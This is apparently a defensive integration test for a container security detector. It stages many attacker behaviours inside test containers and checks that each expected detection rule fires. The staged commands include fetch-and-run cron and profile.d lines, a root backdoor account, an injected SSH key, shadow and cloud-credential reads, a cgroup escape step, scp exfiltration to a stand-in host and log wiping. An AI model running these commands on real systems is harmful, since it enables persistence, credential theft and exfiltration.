#!/usr/bin/env bash
# The default catalog on live data: rampart-collector records real runc
# containers (one ordinary, one privileged, laid out like containerd on a
# kubelet node) while each CATALOG.md behaviour is performed inside them with
# busybox applets and capture_actions; the recording is then replayed through
# the evaluator (rules/ + a cluster applying all_rules.log) and, for every
# behaviour, the expected rule must have fired with its technique on an event
# of the right container, naming that container's id and pod.
#   test_catalog_containers.sh rampart-collector catalog_replay capture_actions RULES_DIR
# Behaviours marked "opt" depend on a capture that is not there yet (exec
# environment) or on a kernel that still allows the pattern: they are
# reported, and counted when they pass, but do not fail the test.
set -euo pipefail

collector=${1:?collector}; replay=${2:?catalog_replay}; actions=${3:?capture_actions}; rules=${4:?rules dir}
. "$(dirname "$0")/collector_test_lib.sh"
MIN_PASS=${MIN_PASS:-40}
collector_test_init catalog

cat >"$work/clusters.yaml" <<'YAML'
clusters:
  - name: catalog-all
    orchestrator: kubernetes
    policy: log_only
YAML
cat >"$work/collector.yaml" <<YAML
node: catalog-node
cluster: catalog-all
collector:
  state_dirs: $RAMPART_STATE_DIR
  metrics_addr: 127.0.0.1:0
YAML

app_pod=payments-api-6d8f9-x2x7q app_ns=shop
priv_pod=node-debug-5f7c9 priv_ns=ops
app=$("$harness" start app --pod-name $app_pod --namespace $app_ns \
	--pod-uid 11111111-2222-4333-8444-555555555555 --container-name api)

start_collector "$collector"

# Started while the collector runs: its first process is the privileged start.
priv=$("$harness" start priv --pod-name $priv_pod --namespace $priv_ns \
	--pod-uid 66666666-7777-4888-9999-aaaaaaaaaaaa --container-name debug --privileged)
echo "app  $app ($app_ns/$app_pod)"
echo "priv $priv ($priv_ns/$priv_pod)"

c() { "$harness" exec app "$@"; }
p() { "$harness" exec priv "$@"; }
# A command line run by a shell (so the program has a shell parent, not runc).
sc() { c -- sh -c "$1; true" </dev/null >/dev/null 2>&1 || true; }
sp() { p -- sh -c "$1; true" </dev/null >/dev/null 2>&1 || true; }
# runc exec --tty (a pty from runc, the shell's controlling terminal) needs a
# terminal on runc's side: script(1) provides one. The arguments are quoted
# for script's shell, so `sh -c 'a b'` stays one -c string.
tty() { script -qec "$harness exec app --tty $(printf '%q ' "$@")" /dev/null </dev/null >>"$work/tty.log" 2>&1 || true; }
# busybox-static's ash runs applets through /proc/self/exe (comm "exe" at
# exec), so applets whose exec is the behaviour are run by runc exec or
# capture_actions spawn through their /bin symlink, as separate binaries are.
A=/tmp/capture_actions
for n in app priv; do
	"$harness" exec $n -- sh -c "cat > $A && chmod +x $A" <"$actions"
done
# Copies of capture_actions posing as other programs (comm is the file name).
as() { echo "mkdir -p /tmp/bin; cp $A /tmp/bin/$1"; }

# --- Execution
tty -- sh -c 'cat /etc/hostname'
sc "$(as nginx); /tmp/bin/nginx spawn /bin/sh sh -c true"
c -- nc -e /bin/true 127.0.0.1 1 >/dev/null 2>&1 || true
sc "$A dupsock 4445"
sp "mount -o remount,exec /dev/shm; cp $A /dev/shm/stage2; /dev/shm/stage2 noop"
sc "$(as mysqld); /tmp/bin/mysqld spawn /usr/bin/id id"
sc "$(as chisel); /tmp/bin/chisel client 203.0.113.1:443 R:socks"
sc "$(as kubectl); /tmp/bin/kubectl get secrets -A"
sc "mkdir -p /var/spool/cron/crontabs; echo '* * * * * wget -q -O- http://203.0.113.1/x | sh' > /tmp/cronjob"
c -- crontab /tmp/cronjob || true
sc "mkdir -p /var/spool/cron/atjobs; echo 'sh /tmp/x' > /var/spool/cron/atjobs/a00001"
sc "mkdir -p /etc/systemd/system; echo '[Timer]' > /etc/systemd/system/update.timer"
sc "echo aWQ= > /tmp/blob"
c -- base64 -d /tmp/blob >/dev/null || true
tty --user 1 -- sh -c 'cat /etc/hostname'
# --- Persistence
sc "cp /bin/busybox /tmp/dropper; chmod 755 /tmp/dropper; /tmp/dropper true"
sc "echo 'curl http://203.0.113.1 | sh' > /etc/profile.d/zz-update.sh"
sc "mkdir -p /etc/apk; echo http://203.0.113.1/alpine >> /etc/apk/repositories"
sc "mkdir -p /var/lib/dpkg; echo 'Package: x' >> /var/lib/dpkg/status"
sc "$(as npm); /tmp/bin/npm install left-pad"
sc "echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd"
sc "$(as useradd); /tmp/bin/useradd -o -u 0 backdoor"
sc "$(as usermod); /tmp/bin/usermod -aG root www"
sc "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA attacker' >> /root/.ssh/authorized_keys"
c -- $A module >/dev/null 2>&1 || true
sc "mkdir -p /usr/local/share/ca-certificates; echo x > /usr/local/share/ca-certificates/mitm.crt"
sc "echo x > /usr/bin/helper"
sc "echo notes > /root/todo.txt"
sc "mkdir /usr/bin/kit"
sc "echo /tmp/libhook.so > /etc/ld.so.preload"
c -- $A bpf >/dev/null 2>&1 || true
# --- Privilege escalation
# release_agent: mount a cgroup v1 hierarchy root (the escape's first step) and
# open its release_agent for writing without writing (the host's value stays).
sp "mkdir -p /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg || mount -t cgroup -o pids cgroup /tmp/cg; : >> /tmp/cg/release_agent"
sc "cp /bin/busybox /tmp/rootsh; chmod u+s /tmp/rootsh"
sp "cp $A /tmp/suid; chmod 4755 /tmp/suid"
p --user 1000 -- /tmp/suid setuid0 </dev/null >/dev/null 2>&1 || true
sc "$(as sudoedit); /tmp/bin/sudoedit -s 'AAAA\\'"
sc "$(as pkexec); $A execv0 /tmp/bin/pkexec"
sp "$(as debugfs); /tmp/bin/debugfs -w /dev/sda1"
sp "mkdir -p /tmp/m; $A spawn /bin/mount mount -t tmpfs none /tmp/m"
sp "nsenter -t 1 -u -i true"
c -- $A unshare >/dev/null 2>&1 || true
c --env 'GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A' -- /bin/true || true
c --user 1000 -- $A uffd >/dev/null 2>&1 || true
c -- $A fdcwd >/dev/null 2>&1 || true
sp "mknod /dev/kmsg c 1 11; dd if=/dev/kmsg of=/dev/null bs=8192 count=1"
sc "cat /proc/sys/kernel/core_pattern"
# --- Defense evasion
sc "touch /root/.ash_history; rm -f /root/.ash_history"
c -- $A memfd >/dev/null 2>&1 || true
c -- $A ptrace >/dev/null 2>&1 || true
sc "mkdir -p /var/log; echo 'login from 198.51.100.7' > /var/log/auth.log; : > /var/log/auth.log"
sc "echo 'x 198.51.100.7' >> /var/log/secure; mkdir -p /var/log/old"
c -- sed -i /198.51.100.7/d /var/log/secure || true
c -- rm -rf /var/log/old || true
c -- killall -9 xmrig kdevtmpfsi >/dev/null 2>&1 || true
sc "$(as systemctl); /tmp/bin/systemctl stop falco"
sc "mkdir -p /etc/selinux; echo SELINUX=disabled > /etc/selinux/config"
sc "mkdir -p /etc/sysctl.d; echo kernel.yama.ptrace_scope=0 > /etc/sysctl.d/10-ptrace.conf"
sc "$(as iptables); /tmp/bin/iptables -F INPUT"
sc "$(as chattr); /tmp/bin/chattr +i /etc/resolv.conf"
sc "touch /tmp/locked; $A setflags /tmp/locked"
sc "touch /etc/.rk"
c -- $A pokemem >/dev/null 2>&1 || true
c -- $A traceme >/dev/null 2>&1 || true
sc "ln -s /etc/shadow /tmp/shadow-link"
sc "ln /etc/shadow /tmp/shadow-hard"
# --- Credential access
sc "cat /etc/shadow"
c --cwd /tmp -- cat ../etc/shadow >/dev/null || true
sc "mkdir -p /root/.ssh; echo KEY > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa"
c -- find / -xdev -name id_rsa >/dev/null || true
c -- cat /root/.aws/credentials >/dev/null 2>&1 || true
c -- $A connectip 169.254.169.254 80 >/dev/null 2>&1 || true
sc "cat /proc/1/environ"
sp "$A rawsock"
# --- Discovery
sc "$(as amicontained); /tmp/bin/amicontained"
c -- $A connectip 10.96.0.1 443 >/dev/null 2>&1 || true
sc "$(as nmap); /tmp/bin/nmap -sS 10.0.0.0/24"
c -- grep -s export /root/.bashrc || true
# --- Lateral movement
sc "$(as ssh); /tmp/bin/ssh -o StrictHostKeyChecking=no root@10.0.0.5"
sc "$(as ssh); /tmp/bin/ssh connectip 203.0.113.22 2222"
# --- Command and control
c -- wget -q -T 1 -O /tmp/payload http://203.0.113.10/payload >/dev/null 2>&1 || true
sc "$(as scp); /tmp/bin/scp /etc/passwd loot@203.0.113.3:/drop/"
c -- $A connectip 198.51.100.7 6667 >/dev/null 2>&1 || true
sc "$(as proxychains4); /tmp/bin/proxychains4 noop"
c --env 'ALL_PROXY=socks5://127.0.0.1:9050' -- /bin/true || true
# --- Exfiltration
sc "$(as python3); /tmp/bin/python3 -c connectip 203.0.113.40 443"
sc "mkdir -p /tmp/cat; cp $A /tmp/cat/cat; /tmp/cat/cat connectip 203.0.113.41 80"
c -- tar cf - /etc/hostname >/dev/null 2>&1 || true
# --- Impact
sc "$(as xmrig); /tmp/bin/xmrig -o stratum+tcp://pool.example.net:3333 -u wallet"
sc "$(as xmrig); /tmp/bin/xmrig --config /tmp/config.json"
# (the ordinary container's /proc/sys is read-only: the host's value is not changed)
c -- sysctl -w vm.nr_hugepages=1280 >/dev/null 2>&1 || true
c -- $A prlimit >/dev/null 2>&1 || true
sc "echo data > /tmp/junk"
c -- shred -u /tmp/junk || true
# --- Initial access
sc "$(as sshd); echo x > /tmp/liblzma.so.5.6.1; /tmp/bin/sshd open /tmp/liblzma.so.5.6.1"
sc "$(as npm); /tmp/bin/npm spawn /usr/bin/wget wget -q -T 1 http://203.0.113.50/stage2"

sleep 1
stop_collector
tail -n 5 "$work/collector.log"
cat "$work/tty.log" 2>/dev/null | tr -d "\\000" || true

"$replay" "$work/events.avro" "$rules" "$work/clusters.yaml" >"$work/matches.txt"
tail -n 1 "$work/matches.txt"

# behaviour | container | rule | technique | comm | substring of the output line | req/opt | why an opt one cannot fire
cat >"$work/expect.txt" <<'EOF'
terminal shell (exec --tty)|app|RP1001|T1059.004|sh|tty=|req
shell spawned by a web server|app|RP2001|T1059.004|sh|by server nginx|req
nc -e remote execution|app|RP1006|T1059.004|nc|nc -e /bin/true|req
socket dup2'ed onto stdin (reverse shell)|app|RP2002|T1059.004|capture_actions|on fd 0|req
execution from /dev/shm|priv|RP2003|T1059.004|stage2|/dev/shm/stage2|req
database server spawns a shell command|app|RP2004|T1190|id|Database mysqld spawned id|req
offensive tool (chisel)|app|RP2005|T1059.004|chisel|chisel client|req
kubectl inside a container|app|RP2006|T1609|kubectl|kubectl get secrets|req
privileged container started|priv|RP2007|T1610|sleep|Privileged container debug started|opt|harness: runc run -d may exit before its init execs, which is then reparented (containerd-shim and conmon stay alive in production)
crontab installed|app|RP2008|T1053.003|crontab|crontab /tmp/cronjob|req
at spool written|app|RP2009|T1053.002|sh|/var/spool/cron/atjobs/a00001|req
systemd timer unit written|app|RP2010|T1053.006|sh|/etc/systemd/system/update.timer|req
base64 -d|app|RP2011|T1140|base64|base64 -d|req
system account (uid 1) interactive shell|app|RP2012|T1059|sh|uid=1 |req
drift: upper-layer binary executed|app|RP1003|T1036|dropper|/tmp/dropper executed|req
drift: chmod +x in a container|app|RP1008|T1222.002|chmod|/tmp/dropper|req
/etc/profile.d modified|app|RP2101|T1546.004|sh|/etc/profile.d/zz-update.sh|req
package repository changed|app|RP2102|T1072|sh|/etc/apk/repositories|req
dpkg database written by sh|app|RP2103|T1072|sh|/var/lib/dpkg/status|req
package manager run (npm install)|app|RP1012|T1072|npm|npm install left-pad|req
/etc/passwd written (write below /etc)|app|RP1007|T1543|sh|/etc/passwd|req
useradd|app|RP2104|T1136.001|useradd|useradd -o -u 0 backdoor|req
usermod|app|RP2105|T1098|usermod|usermod -aG root|req
authorized_keys written|app|RP2106|T1098.004|sh|/root/.ssh/authorized_keys|req
kernel module load attempt|app|RP2107|T1547.006|capture_actions|Kernel module|req
certificate store modified|app|RP2108|T1553.004|sh|mitm.crt|req
write below /usr/bin|app|RP2109|T1543|sh|/usr/bin/helper|req
write below /root|app|RP2110|T1543|sh|/root/todo.txt|req
mkdir below /usr/bin|app|RP2111|T1222.002|mkdir|/usr/bin/kit|req
/etc/ld.so.preload written|app|RP2112|T1574.006|sh|/etc/ld.so.preload|req
bpf(BPF_PROG_LOAD) attempt|app|RP2113|T1014|capture_actions|BPF program|req
cgroup release_agent opened for write|priv|RP1010|T1611|sh|release_agent|req
chmod u+s|app|RP2201|T1548.001|chmod|/tmp/rootsh|req
setuid(0) by a non-root user|priv|RP2202|T1548.001|suid|setuid|opt|capture: setuid event carries the credentials after the call (proc.uid is already 0)
sudoedit -s trailing backslash|app|RP2203|T1548.003|sudoedit|sudoedit -s|req
pkexec with an empty argv|app|RP2204|T1068|pkexec|pkexec|opt|kernel >= 5.18 turns an empty argv into [""] (argc 1)
debugfs in a privileged container|priv|RP2205|T1611|debugfs|debugfs -w|req
mount in a privileged container|priv|RP2206|T1611|mount|mount -t tmpfs|req
setns (nsenter)|priv|RP2207|T1611|nsenter|nsenter|req
unshare(CLONE_NEWUTS)|app|RP2208|T1611|capture_actions|unshare|req
GLIBC_TUNABLES overflow pattern|app|RP2209|T1068|true|GLIBC_TUNABLES|req
userfaultfd by uid 1000|app|RP2210|T1068|capture_actions|serfaultfd|req
cwd through /proc/self/fd/N|app|RP2211|T1611|capture_actions|/proc/self/fd/|req
host device (/dev/kmsg) opened|priv|RP2212|T1611|dd|/dev/kmsg|req
mount of a cgroup hierarchy|priv|RP2213|T1611|mount|cgroup|req
host-sensitive path (core_pattern) opened|app|RP2214|T1611|cat|core_pattern|req
shell history deleted|app|RP1013|T1070.003|rm|.ash_history|req
fileless execution (memfd)|app|RP1004|T1620|memfd:rampart-f|fileless noop|req
ptrace attach|app|RP1009|T1055.008|capture_actions|ptrace|req
log truncated|app|RP2301|T1070.002|sh|/var/log/auth.log|req
log edited in place (sed -i)|app|RP2302|T1070.002|sed|sed -i|req
recursive deletion under /var/log|app|RP2303|T1070.004|rm|rm -rf /var/log/old|req
competing miners killed (killall)|app|RP2304|T1489|killall|killall -9 xmrig|req
security service stopped|app|RP2305|T1562.001|systemctl|systemctl stop falco|req
SELinux config written|app|RP2306|T1562.001|sh|/etc/selinux/config|req
sysctl config written|app|RP2307|T1562.001|sh|/etc/sysctl.d/10-ptrace.conf|req
iptables -F|app|RP2308|T1562.004|iptables|iptables -F|req
chattr +i|app|RP2309|T1222.002|chattr|chattr +i|req
FS_IOC_SETFLAGS ioctl|app|RP2309|T1222.002|capture_actions|/tmp/locked|req
hidden file in /etc|app|RP2310|T1564.001|touch|/etc/.rk|req
/proc/<pid>/mem of another process opened for write|app|RP2311|T1055.009|capture_actions|/mem|req
ptrace TRACEME|app|RP2312|T1622|capture_actions|TRACEME|req
symlink to /etc/shadow|app|RP2313|T1555|ln|/etc/shadow|req
hardlink to /etc/shadow|app|RP2314|T1555|ln|/etc/shadow|req
/etc/shadow read|app|RP1002|T1003.008|cat|/etc/shadow|req
/etc/shadow through ../|app|RP2402|T1555|cat|/etc/shadow|req
ssh private key read|app|RP2403|T1552.004|cat|/root/.ssh/id_rsa|req
find -name id_rsa|app|RP2404|T1552.001|find|id_rsa|req
cat .aws/credentials|app|RP2405|T1552.001|cat|.aws/credentials|req
connect to 169.254.169.254|app|RP1005|T1552.005|capture_actions|169.254.169.254|req
/proc/1/environ read|app|RP2406|T1552.007|cat|/proc/1/environ|req
raw packet socket|priv|RP2407|T1557.002|capture_actions|capture_actions|req
discovery tool (amicontained)|app|RP2501|T1613|amicontained|amicontained|req
Kubernetes API contacted|app|RP2502|T1613|capture_actions|10.96.0.1|req
network scanner (nmap)|app|RP2503|T1046|nmap|nmap -sS|req
grep over .bashrc|app|RP2504|T1083|grep|.bashrc|req
ssh -o StrictHostKeyChecking=no|app|RP2601|T1021.004|ssh|StrictHostKeyChecking=no|req
ssh to port 2222|app|RP2602|T1571|ssh|2222|req
wget run|app|RP2701|T1105|wget|wget -q|req
scp to a remote host|app|RP2702|T1105|scp|loot@203.0.113.3|req
connect to IRC port 6667|app|RP2703|T1071|capture_actions|6667|req
proxychains run|app|RP2704|T1090|proxychains4|proxychains4|req
SOCKS proxy in the environment|app|RP2704|T1090|true|true|req
python -c connects out|app|RP2801|T1041|python3|203.0.113.40|req
cat (never-network binary) connects|app|RP2803|T1041|cat|cat|req
tar cf - over exec (kubectl cp)|app|RP2804|T1041|tar|tar cf -|req
stratum URL on a command line|app|RP1011|T1496|xmrig|stratum+tcp://|req
miner binary run|app|RP2901|T1496|xmrig|--config|req
sysctl vm.nr_hugepages|app|RP2902|T1496|sysctl|vm.nr_hugepages|req
prlimit on another process|app|RP2903|T1496|capture_actions|capture_actions|req
shred|app|RP2904|T1485|shred|shred -u|req
sshd opens backdoored liblzma|app|RP3001|T1195.002|sshd|liblzma.so.5.6.1|req
network tool run by npm|app|RP3002|T1195.002|wget|wget|req
EOF

pass=0 fail=0 optmiss=0
declare -A rules_ok=()
printf '%-48s %-7s %-10s %s\n' behaviour rule technique result
while IFS='|' read -r what ctr rule tech comm sub kind why; do
	if [ "$ctr" = app ]; then id=$app pod=$app_ns/$app_pod; else id=$priv pod=$priv_ns/$priv_pod; fi
	# MATCH rule technique action container ns/pod comm type seq | output
	hit=$(awk -v r="$rule" -v t="$tech" -v id="$id" -v pod="$pod" -v comm="$comm" -v sub_="$sub" '
		$1 == "MATCH" && $2 == r && $3 == t && $5 == id && $6 == pod && $7 == comm {
			i = index($0, " | "); if (index(substr($0, i + 3), sub_)) { n++ } }
		END { print n + 0 }' "$work/matches.txt")
	if [ "$hit" -gt 0 ]; then
		res=ok; pass=$((pass + 1)); rules_ok[$rule]=1
	elif [ "$kind" = opt ]; then
		res="not fired (optional: $why)"; optmiss=$((optmiss + 1))
	else
		res=FAIL; fail=$((fail + 1))
		# what did fire for this rule, if anything (diagnosis)
		grep -F "MATCH $rule " "$work/matches.txt" | head -n 2 | sed 's/^/      /' || true
	fi
	printf '%-48s %-7s %-10s %s\n' "$what" "$rule" "$tech" "$res"
done <"$work/expect.txt"
echo "behaviours passing: $pass (distinct rules: ${#rules_ok[@]}), failing: $fail, optional not fired: $optmiss"
if [ "$fail" -gt 0 ] || [ "$pass" -lt "$MIN_PASS" ]; then
	cp "$work/matches.txt" /tmp/catalog_containers_matches.txt
	cp "$work/events.avro" /tmp/catalog_containers_events.avro
	echo "FAIL (need every required behaviour and at least $MIN_PASS; matches kept in /tmp/catalog_containers_matches.txt)"
	exit 1
fi
echo "PASS"
